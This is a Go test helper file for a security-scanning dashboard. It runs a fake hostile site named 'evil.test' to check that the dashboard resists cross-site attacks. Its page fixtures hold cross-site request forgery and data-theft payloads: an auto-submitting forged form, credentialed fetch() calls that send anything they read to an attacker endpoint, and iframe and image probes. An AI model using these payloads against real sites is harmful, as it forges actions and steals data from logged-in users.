package web_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/whohasme/whohasme/report/casebook"
	"github.com/whohasme/whohasme/scan"
)

// foreigner is a site that attacks a dashboard from its own pages. It is
// called by this machine's address, as another program's port, and by a name.
type foreigner struct {
	port, name string
	mu         sync.Mutex
	got        []string // what its pages could read
}

func foreign(t *testing.T, target string) *foreigner {
	t.Helper()
	f := &foreigner{}
	pages := map[string]string{
		"/form": `<form method=post action="TARGET/s/me/findings/me.evil.2/verdict"><input name=verdict value=match><input name=token value=x></form><script>document.forms[0].submit()</script>`,
		"/fetch": `<script>(async () => { for (const o of [{}, {credentials: "include"}, {mode: "no-cors", credentials: "include"}, {method: "POST", credentials: "include", body: new URLSearchParams({verdict: "match"})}, {method: "POST", mode: "no-cors", credentials: "include", body: new URLSearchParams({verdict: "match"})}]) {
try { const r = await fetch("TARGET/s/me/findings/me.evil.2" + (o.method ? "/verdict" : ""), o); const text = await r.text(); if (text) await fetch("/got", {method: "POST", body: text}) } catch {} } document.title = "done" })()</script>`,
		"/image": `<script>const i = new Image(); i.onload = () => fetch("/got", {method: "POST", body: "picture loaded"}).then(() => document.title = "done"); i.onerror = () => document.title = "done"; i.src = "TARGET/static/icon.svg"</script>`,
		"/frame": `<iframe src="TARGET/s/me"></iframe><script>onload = () => { let text = ""; try { text = frames[0].document.body.innerText } catch {} ; (text ? fetch("/got", {method: "POST", body: text}) : Promise.resolve()).then(() => document.title = "done") }</script>`,
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/got" {
			b, _ := io.ReadAll(r.Body)
			f.mu.Lock()
			defer f.mu.Unlock()
			f.got = append(f.got, string(b))
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		title := "trying"
		if r.URL.Path == "/form" {
			title = "form" // another page comes
		}
		fmt.Fprintf(w, "<!doctype html><title>%s</title>%s", title, strings.ReplaceAll(pages[r.URL.Path], "TARGET", target))
	}))
	t.Cleanup(func() { srv.CloseClientConnections(); srv.Close() })
	f.port, f.name = srv.URL, strings.Replace(srv.URL, "127.0.0.1", "evil.test", 1)
	return f
}

func (f *foreigner) read() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string{}, f.got...)
}

// reviews lists the findings that somebody answered about.
func reviews(t *testing.T, book *casebook.Casebook) (list []string) {
	t.Helper()
	for e, err := range book.Vault.Events(t.Context(), "me", scan.ReviewGiven) {
		ok(t, err)
		var r scan.Review
		ok(t, json.Unmarshal(e.Payload, &r))
		list = append(list, r.Finding)
	}
	return list
}

// add files a subject from the text of a file.
func (s *stage) add(book *casebook.Casebook, file string) {
	s.t.Helper()
	p, err := scan.ParseSubject("subject.yaml", []byte(file))
	ok(s.t, err)
	ok(s.t, book.AddSubject(context.Background(), p, nil))
}
